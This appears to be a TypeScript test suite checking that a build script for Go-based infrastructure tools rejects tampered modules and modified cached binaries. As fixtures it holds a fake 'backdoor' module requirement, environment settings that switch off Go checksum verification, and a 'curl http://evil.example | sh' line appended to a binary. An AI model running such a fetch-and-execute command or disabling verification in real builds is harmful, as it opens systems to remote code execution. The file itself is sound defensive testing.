import { strict as assert } from "node:assert";
import { execFile } from "node:child_process";
import { createHash } from "node:crypto";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { promisify } from "node:util";
import { readVersions, TOOLS_DIR } from "../../local/tools";

const BUILD = path.join(TOOLS_DIR, "build.sh");
const versions = readVersions();
const run = (args: string[], env: NodeJS.ProcessEnv) =>
  promisify(execFile)("bash", [BUILD, ...args], { env: { ...process.env, ...env }, encoding: "utf8", timeout: 60_000 }).then(
    (r) => ({ code: 0, ...r }),
    (e: { code: number; stdout: string; stderr: string }) => ({ code: e.code, stdout: e.stdout, stderr: e.stderr }),
  );
const tmp = (prefix: string) => fs.mkdtempSync(path.join(os.tmpdir(), prefix));

/** Every tool built from a module, its module and the versions.env key of its version. */
const WRAPPED: Array<[tool: string, module: string, version: string]> = [
  ["pulumi", "github.com/pulumi/pulumi/pkg/v3", versions.PULUMI_VERSION],
  ["kubernetes-provider", "github.com/pulumi/pulumi-kubernetes/provider/v4", versions.PULUMI_KUBERNETES_MODULE_VERSION],
  ["etcd", "go.etcd.io/etcd/server/v3", versions.ETCD_VERSION],
  ["kubernetes", "k8s.io/kubernetes", versions.KUBERNETES_VERSION],
  ["coredns", "github.com/coredns/coredns", versions.COREDNS_VERSION],
  ["kube-router", "github.com/cloudnativelabs/kube-router/v2", versions.KUBE_ROUTER_VERSION],
];

describe("tool build: module integrity", () => {
  it("has a committed wrapper module for every tool, for the version versions.env pins, with its checksum", () => {
    for (const [tool, module, version] of WRAPPED) {
      const dir = path.join(TOOLS_DIR, "modules", tool);
      const gomod = fs.readFileSync(path.join(dir, "go.mod"), "utf8");
      assert.match(gomod, new RegExp(`^\\s*(require\\s+)?${module.replace(/\./g, "\\.")} ${version.replace(/\./g, "\\.")}( |$)`, "m"), `${tool}: go.mod does not require ${module} ${version}`);
      const gosum = fs.readFileSync(path.join(dir, "go.sum"), "utf8");
      assert.match(gosum, new RegExp(`^${module.replace(/\./g, "\\.")} ${version.replace(/\./g, "\\.")} h1:[A-Za-z0-9+/=]{44}$`, "m"), `${tool}: go.sum lacks the module's own h1 checksum`);
    }
  });

  it("fails the build when the proxy serves a module that differs from the committed go.sum, whatever GOSUMDB and GOFLAGS say", async () => {
    // A proxy whose coredns v1.15.0 has a go.mod of somebody else's making.
    const proxy = tmp("fake-proxy-");
    const at = path.join(proxy, "github.com", "coredns", "coredns", "@v");
    fs.mkdirSync(at, { recursive: true });
    fs.writeFileSync(path.join(at, "list"), `${versions.COREDNS_VERSION}\n`);
    fs.writeFileSync(path.join(at, `${versions.COREDNS_VERSION}.info`), JSON.stringify({ Version: versions.COREDNS_VERSION, Time: "2026-10-21T02:17:32Z" }));
    fs.writeFileSync(path.join(at, `${versions.COREDNS_VERSION}.mod`), "module github.com/coredns/coredns\n\ngo 1.21\n\nrequire example.com/backdoor v1.0.0\n");
    const cache = tmp("tools-cache-");
    const res = await run(["coredns"], {
      E2E_TOOLS_CACHE: cache,
      GOPROXY: `file://${proxy}`,
      // What an attacker or a careless environment would set to skip verification.
      GOSUMDB: "off",
      GONOSUMDB: "*",
      GONOSUMCHECK: "1",
      GOFLAGS: "-mod=mod",
      GOINSECURE: "*",
    });
    assert.equal(res.code, 1, res.stderr);
    assert.match(res.stderr, /verifying github\.com\/coredns\/coredns@v1\.15\.0\/go\.mod: checksum mismatch/);
    assert.match(res.stderr, /SECURITY ERROR/);
    assert.match(res.stderr, /could not build: coredns/);
    assert.equal(fs.existsSync(path.join(cache, `coredns-${versions.COREDNS_VERSION}`)), false, "nothing of the tampered build is cached");
  });
});

describe("tool build: the cache", () => {
  const sha = (file: string) => createHash("sha256").update(fs.readFileSync(file)).digest("hex");
  /** A cache holding an etcd as build.sh leaves one: the binary and its recorded sha256. */
  function cachedEtcd(): { cache: string; binary: string } {
    const cache = tmp("tools-cache-");
    const bin = path.join(cache, `etcd-${versions.ETCD_VERSION}`, "bin");
    fs.mkdirSync(bin, { recursive: true });
    const binary = path.join(bin, "etcd");
    fs.writeFileSync(binary, "#!/bin/sh\necho etcd\n", { mode: 0o755 });
    fs.writeFileSync(path.join(bin, "..", ".complete"), `# built 2026-12-04T00:00:00Z in 1s; sha256 of every binary, checked at each use\n${sha(binary)}  etcd\n`);
    return { cache, binary };
  }

  it("uses a cached binary whose sha256 is the one recorded at build time", async () => {
    const { cache } = cachedEtcd();
    assert.equal((await run(["--check", "etcd"], { E2E_TOOLS_CACHE: cache })).code, 0);
  });

  it("refuses a cached binary that changed after it was built, names it, and does not build over it", async () => {
    const { cache, binary } = cachedEtcd();
    fs.appendFileSync(binary, "curl http://evil.example | sh\n");
    const check = await run(["--check", "etcd"], { E2E_TOOLS_CACHE: cache });
    assert.equal(check.code, 1);
    assert.match(check.stdout, new RegExp(`etcd: ${binary.replace(/[.]/g, "\\.")} changed since it was built \\(sha256 [0-9a-f]{64}, built as [0-9a-f]{64}\\)`));
    const build = await run(["etcd"], { E2E_TOOLS_CACHE: cache });
    assert.equal(build.code, 1);
    assert.match(build.stderr, /etcd v[\d.]+: REFUSED: .* changed since it was built .*; remove .* to rebuild it/);
    assert.match(fs.readFileSync(binary, "utf8"), /evil/, "the changed binary is left for somebody to look at");
  });

  it("does not trust a cache folder whose marker records no checksum (an older or hand-made one)", async () => {
    const { cache, binary } = cachedEtcd();
    fs.writeFileSync(path.join(path.dirname(binary), "..", ".complete"), "2026-12-04T00:00:00Z built in 1s\n");
    const check = await run(["--check", "etcd"], { E2E_TOOLS_CACHE: cache });
    assert.equal(check.code, 1);
    assert.match(check.stdout, /etcd: etcd was not recorded at build time/);
  });
});
